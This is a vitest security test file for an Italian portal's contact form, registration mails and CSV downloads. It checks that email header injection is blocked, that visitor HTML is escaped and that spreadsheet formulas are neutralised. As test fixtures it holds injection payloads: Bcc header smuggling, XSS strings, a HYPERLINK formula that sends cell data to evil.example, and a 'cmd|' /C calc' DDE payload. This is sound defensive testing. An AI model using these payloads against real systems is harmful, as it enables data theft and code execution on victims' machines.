import pino from 'pino';
import type { ParsedMail } from 'mailparser';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import type { App } from '../app';
import { runAccountsCommand } from '../cli/accounts-commands';
import { searchText } from '@portal/contract';
import { recomputeAggregates } from '../importer/aggregates';
import { MailWorker, smtpTransport } from '../plugins/mailer';
import { MemoryRateLimitStore } from '../plugins/rate-limit';
import type { TestDb } from '../../test/db';
import { buildTestApp } from '../../test/app';
import { insertGeoFixture } from '../../test/fixtures';
import { PASSWORD, TestSmtp, client, signIn, testConfig } from '../../test/accounts';

/*
 * What must be escaped is escaped: no header injection through the contact form, HTML of visitors
 * escaped in the mails (read from a real SMTP server), spreadsheet formulas neutralised in every CSV.
 */

let t: TestDb;
let app: App;
let worker: MailWorker;
let licensed: string;
const smtp = new TestSmtp();
const store = new MemoryRateLimitStore();
const STAFF = 'staff@example.it';

/** Text cells a spreadsheet would run as a formula, one per dangerous first character. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

beforeAll(async () => {
  ({ t, app } = await buildTestApp({ config: testConfig({ STAFF_EMAIL: STAFF }), rateLimitStore: store }));
  await insertGeoFixture(t.db);
  // Comuni whose names are formulas, each with a year of data so the export has a line for them.
  for (const [i, name] of FORMULAS.entries()) {
    const id = `028${String(900 + i)}`;
    await t.db.query(
      `INSERT INTO cities (id, province_id, region_id, name, search_name, population, has_shape)
       VALUES ($1, '028', '05', $2, $3, 1000, false)`,
      [id, name, searchText(name)],
    );
    await t.db.query(
      `INSERT INTO waste_stats (city_id, year, population, produced_t, sorted_t, rd_pct, source, source_rank)
       VALUES ($1, 2024, 1000, 500, 300, 60, 'ispra-kpi', 2)`,
      [id],
    );
  }
  await t.db.query(`INSERT INTO rvm_operators (id, name) VALUES (1, $1)`, ['@SUM(1+1)']);
  await t.db.query(
    `INSERT INTO rvm_machines (id, operator_id, city_id, address, cap, latitude, longitude, installed_on, active, demo)
     VALUES ('=1+1', 1, '028001', $1, '-35031', 45.36, 11.79, '2022-05-01', true, true)`,
    [FORMULAS[0]],
  );
  await recomputeAggregates(t.db);

  await smtp.start();
  worker = new MailWorker({
    db: t.db,
    transport: smtpTransport(smtp.url),
    from: 'Portale <noreply@example.it>',
    log: pino({ level: 'silent' }),
    pollIntervalMs: 50,
    baseDelayMs: 100,
    maxDelayMs: 400,
  });
  worker.start();
  await runAccountsCommand(
    t.db,
    ['user', 'create', '--email', 'lic@example.it', '--password', PASSWORD, '--verified'],
    () => {},
  );
  await runAccountsCommand(t.db, ['license', 'approve', 'lic@example.it'], () => {});
  licensed = await signIn(app, 'lic@example.it');
});
afterAll(async () => {
  await worker?.stop();
  await smtp.stop();
});
beforeEach(() => store.clear());

const contact = {
  firstName: 'Lucia',
  lastName: 'Gallo',
  email: 'lucia@example.it',
  reason: 'other',
  message: 'Una domanda.',
  privacy: true,
};

/** Every recipient a message was addressed to, in any header. */
function recipients(mail: ParsedMail): string[] {
  return [mail.to, mail.cc, mail.bcc]
    .flatMap((a) => (a === undefined ? [] : Array.isArray(a) ? a : [a]))
    .flatMap((a) => a.value.map((v) => v.address ?? ''));
}

describe('contact form: mail header injection', () => {
  it('refuses CR/LF in the e-mail address and the reason, the fields that could reach a header', async () => {
    const api = client(app);
    for (const [field, value] of [
      ['email', 'lucia@example.it\r\nBcc: victim@example.com'],
      ['email', 'lucia@example.it\nSubject: vinci'],
      ['reason', 'other\r\nBcc: victim@example.com'],
    ] as const) {
      const res = await api.post('/api/contact-us/', { ...contact, [field]: value });
      expect([field, res.statusCode]).toEqual([field, 400]);
      expect(Object.keys(res.json())).toEqual([field]);
    }
  });

  it('keeps CR/LF in names out of the headers and on one line of the text', async () => {
    const res = await client(app).post('/api/contact-us/', {
      ...contact,
      firstName: 'Lucia\r\nBcc: victim',
      lastName: 'Gallo\nSubject: vinci\r\n\r\nfalso corpo',
      message: 'Riga uno\r\nBcc: victim@example.com',
    });
    expect(res.statusCode).toBe(201);
    const mail = await smtp.waitFor(STAFF, /^Contatto n\. \d+: Altro$/);
    expect(recipients(mail)).toEqual([STAFF]);
    expect(mail.headers.has('bcc')).toBe(false);
    expect(mail.subject).toMatch(/^Contatto n\. \d+: Altro$/);
    expect(mail.text).toContain('Nome: Lucia Bcc: victim Gallo Subject: vinci falso corpo\n');
    // The message keeps its lines: it is body text, never a header.
    expect(mail.text).toContain('Riga uno\nBcc: victim@example.com');
    await worker.runOnce();
    expect(smtp.messages.flatMap(recipients)).not.toContain('victim@example.com');
  });
});

describe('HTML typed by visitors is escaped in the mails', () => {
  it('contact form: names and message', async () => {
    const res = await client(app).post('/api/contact-us/', {
      ...contact,
      firstName: '<img src=x onerror=alert(1)>',
      lastName: '<b>Gallo</b>',
      email: 'html@example.it',
      message: '<script>alert("x")</script>\n<a href="javascript:alert(1)">clic</a> & <i>co</i>',
    });
    expect(res.statusCode).toBe(201);
    const html = String((await waitForMailWith(STAFF, 'html@example.it')).html);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain('&lt;b&gt;Gallo&lt;/b&gt;');
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).toContain(
      '&lt;a href=&quot;javascript:alert(1)&quot;&gt;clic&lt;/a&gt; &amp; &lt;i&gt;co&lt;/i&gt;',
    );
    for (const raw of ['<img', '<script', '<b>', '<i>', 'href="javascript']) expect(html).not.toContain(raw);
  });

  it('registration: the verification mail carries no part of the name, escaped or not', async () => {
    const email = 'nuovo@example.it';
    const res = await client(app).post('/api/registration/', {
      email1: email,
      email2: email,
      firstName: '<script>alert(1)</script>',
      lastName: 'Rossi',
      password: PASSWORD,
    });
    expect(res.statusCode).toBe(201);
    const mail = await smtp.waitFor(email);
    for (const part of [String(mail.html), String(mail.text)]) {
      expect(part).not.toContain('<script');
      expect(part).not.toContain('alert(1)');
    }
  });
});

/** The staff mail whose text mentions `needle` (several contact mails share the subject). */
function waitForMailWith(to: string, needle: string): Promise<ParsedMail> {
  return vi.waitFor(
    () => {
      const found = smtp.messages.find(
        (m) => recipients(m).includes(to) && typeof m.text === 'string' && m.text.includes(needle),
      );
      if (!found) throw new Error(`no mail to ${to} mentioning ${needle}`);
      return found;
    },
    { timeout: 10_000, interval: 25 },
  );
}

/** RFC 4180 cells of a ';'-separated CSV with a BOM (quoted cells may hold ';', '"', CR and LF). */
function parseCsv(body: string): string[][] {
  expect(body.charCodeAt(0)).toBe(0xfeff);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 1; i < body.length; i++) {
    const ch = body[i]!;
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ';') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

/** No cell may start with a character that makes a spreadsheet evaluate it. */
function expectNoFormula(rows: string[][]) {
  for (const row of rows)
    for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
}

describe('CSV downloads neutralise spreadsheet formulas', () => {
  it('collection data: comuni named like formulas get a leading apostrophe', async () => {
    const res = await client(app).get('/api/stats/download/?format=csv&level=province&id=028', {
      token: licensed,
    });
    expect(res.statusCode).toBe(200);
    const rows = parseCsv(res.body);
    expectNoFormula(rows);
    const cells = rows.flat();
    for (const name of FORMULAS) expect(cells, JSON.stringify(name)).toContain(`'${name}`);
  });

  it('ecocompattatori: id, operator, address and CAP', async () => {
    const res = await client(app).get('/api/reverse-vending-machines/reverse-vending-machine/download/', {
      token: licensed,
    });
    expect(res.statusCode).toBe(200);
    const rows = parseCsv(res.body);
    expectNoFormula(rows);
    const [header, ...lines] = rows;
    const row = Object.fromEntries(header!.map((h, i) => [h, lines[0]![i]]));
    expect(row).toMatchObject({
      id_ecocompattatore: "'=1+1",
      gestore: "'@SUM(1+1)",
      indirizzo: `'${FORMULAS[0]}`,
      cap: "'-35031",
    });
  });
});
